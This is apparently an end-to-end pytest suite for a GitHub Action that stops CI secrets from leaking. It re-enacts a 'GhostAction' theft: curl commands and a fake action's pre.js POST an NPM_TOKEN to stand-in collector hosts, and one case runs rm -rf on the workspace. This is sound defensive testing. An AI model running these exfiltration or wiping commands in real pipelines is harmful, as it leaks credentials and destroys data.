# SPDX-License-Identifier: MIT
"""GhostAction (I-10) against the action itself: one ``uses:`` line, and the job is red.

In September 2025 over HTTPS to a host name, in September 2026 over plain HTTP to a bare address.
"""

from __future__ import annotations

import signal
import textwrap

import pytest

from e2e.acting import ACTION, Bench, Outcome, wait_for
from lab import Lab
from lab.network import BARE
from lab.tokens import Token

pytestmark = [pytest.mark.root, pytest.mark.act]

HTTPS_2025 = "https://collector.test/"
HTTP_2026 = f"http://{BARE}/"
FORMS = [
    pytest.param(HTTPS_2025, "collector.test", id="2025-https"),
    pytest.param(HTTP_2026, f"{BARE}:80", id="2026-bare-address"),
]
THEFT = """curl -s -m 10 -X POST -d "NPM_TOKEN=${{ secrets.NPM_TOKEN }}" """


def guarded(theft: str, mode: str = "audit") -> str:
    """A job with the guard in front of a step ``collect``, and a step after it."""
    return f"""
    - uses: {ACTION}
      with:
        mode: {mode}
        secrets: NPM_TOKEN=${{{{ secrets.NPM_TOKEN }}}}
    - id: collect
      run: |
        {theft}
    - id: after
      run: echo went on
    """


def assert_caught(outcome: Outcome, lab: Lab, token: Token, destination: str) -> None:
    """The job is red, nothing left, and one annotation says all that a person needs."""
    lab.settle()
    assert lab.collector.connections == []
    assert outcome.red
    assert outcome.result("hook", "Post") == "failure"
    errors = [error for error in outcome.annotations("error") if "a secret" in error.title]
    titles = [error.title for error in errors]
    assert titles == ["Leakstop: a secret was stopped on its way out"], outcome.text
    for part in (
        token.name,
        destination,
        "`curl`",
        'step "collect"',
        f"0 of {len(token.value)} bytes left",
    ):
        assert part in errors[0].message
    assert "a secret was stopped on its way out" in outcome.summary
    found = [(finding["id"], finding["secret"]) for finding in outcome.record("finding")]
    assert found == [("secret-in-argv", token.name), ("long-lived-publish-token", token.name)]
    assert outcome.shows(token) == []


def test_unguarded_the_collector_has_the_secret(acting: Bench, lab: Lab, secret: Token) -> None:
    outcome = acting.run(f"- run: {THEFT} {HTTPS_2025}", secrets=[secret])
    lab.settle()
    assert not outcome.red
    assert lab.collector.bytes_of(secret.value.encode()) == len(secret.value)


@pytest.mark.parametrize("mode", ["audit", "block"])
@pytest.mark.parametrize(("url", "destination"), FORMS)
def test_one_line_makes_the_job_red_and_the_collector_gets_nothing(
    acting: Bench, lab: Lab, secret: Token, mode: str, url: str, destination: str
) -> None:
    outcome = acting.run(guarded(THEFT + url, mode), secrets=[secret])
    assert_caught(outcome, lab, secret, destination)
    assert outcome.result("collect") == "failure"
    assert outcome.report["mode"] == mode


@pytest.mark.parametrize(
    ("theft", "step", "after"),
    [
        pytest.param("{} || true", "success", "success", id="the-step-goes-on"),
        pytest.param("{} || exit 1", "failure", "", id="the-step-fails"),
        pytest.param(
            '{} || rm -rf "$GITHUB_WORKSPACE" && mkdir "$GITHUB_WORKSPACE"',
            "success",
            "success",
            id="the-workspace-is-wiped",
        ),
    ],
)
def test_whatever_the_step_does_afterwards(
    acting: Bench, lab: Lab, secret: Token, theft: str, step: str, after: str
) -> None:
    outcome = acting.run(guarded(theft.format(THEFT + HTTP_2026)), secrets=[secret])
    assert_caught(outcome, lab, secret, f"{BARE}:80")
    assert (outcome.result("collect"), outcome.result("after")) == (step, after)


def test_the_job_is_cancelled(acting: Bench, lab: Lab, secret: Token) -> None:
    begun = lab.directory / "begun"
    theft = f"{THEFT} {HTTP_2026} || touch {begun}; sleep 60"
    run = acting.start(guarded(theft), secrets=[secret])
    wait_for(begun)
    run.process.send_signal(signal.SIGINT)
    outcome = run.wait()
    assert_caught(outcome, lab, secret, f"{BARE}:80")
    assert outcome.result("after") == ""
    assert run.agents == []


def test_the_pre_script_of_another_action_is_guarded_too(
    acting: Bench, lab: Lab, secret: Token
) -> None:
    """It runs before every step of the job, so a guard that starts in ``main`` would miss it."""
    arguments = f'["-s", "-m", "10", "-d", process.env.INPUT_TOKEN, "{HTTP_2026}"]'
    acting.publish(
        "acme/thief@v1",
        {
            "action.yml": "name: thief\ndescription: steals\ninputs: {token: {description: t}}\n"
            "runs: {using: node24, pre: pre.js, main: main.js}\n",
            "pre.js": f'require("child_process").spawnSync("curl", {arguments});\n',
            "main.js": "",
        },
    )
    outcome = acting.run(
        f"""
        - uses: {ACTION}
          with:
            secrets: NPM_TOKEN=${{{{ secrets.NPM_TOKEN }}}}
        - id: theft
          uses: acme/thief@v1
          with:
            token: ${{{{ secrets.NPM_TOKEN }}}}
        """,
        secrets=[secret],
    )
    lab.settle()
    assert lab.collector.connections == []
    assert outcome.red
    (error,) = outcome.annotations("error")
    assert error.title == "Leakstop: a secret was stopped on its way out"
    assert '`curl` in step "theft"' in error.message


WRAPPED_POLICY = "version: 1\nmode: block\nsecrets: {NPM_TOKEN: home.test}\n"
WRAPPER = f"""\
name: guard
description: What every repository of this organisation uses.
inputs:
  secrets:
    description: Secrets to watch.
  mode:
    description: Not what Leakstop calls so.
    default: strict
runs:
  using: composite
  steps:
    - uses: {ACTION}
      with:
        secrets: ${{{{ inputs.secrets }}}}
        policy: """


@pytest.mark.parametrize(
    "policy",
    [
        pytest.param("${{ github.action_path }}/policy.yml", id="policy-in-a-file"),
        pytest.param("|\n" + textwrap.indent(WRAPPED_POLICY, " " * 10), id="policy-in-the-step"),
    ],
)
def test_an_organisation_wraps_the_action(
    acting: Bench, lab: Lab, secret: Token, policy: str
) -> None:
    """At depth 2 the inputs of ``post`` may be the wrapper's: it must not look at them."""
    files = {"action.yml": WRAPPER + policy, "policy.yml": WRAPPED_POLICY}
    acting.publish("acme/guard@v1", files)
    outcome = acting.run(
        f"""
        - uses: acme/guard@v1
          with:
            secrets: NPM_TOKEN=${{{{ secrets.NPM_TOKEN }}}}
        - id: collect
          run: {THEFT} {HTTPS_2025}
        """,
        secrets=[secret],
    )
    assert_caught(outcome, lab, secret, "collector.test")
    assert outcome.report["mode"] == "block", "the wrapper's policy is in force"
    assert outcome.report["secrets"][0]["home"] == ["home.test"]
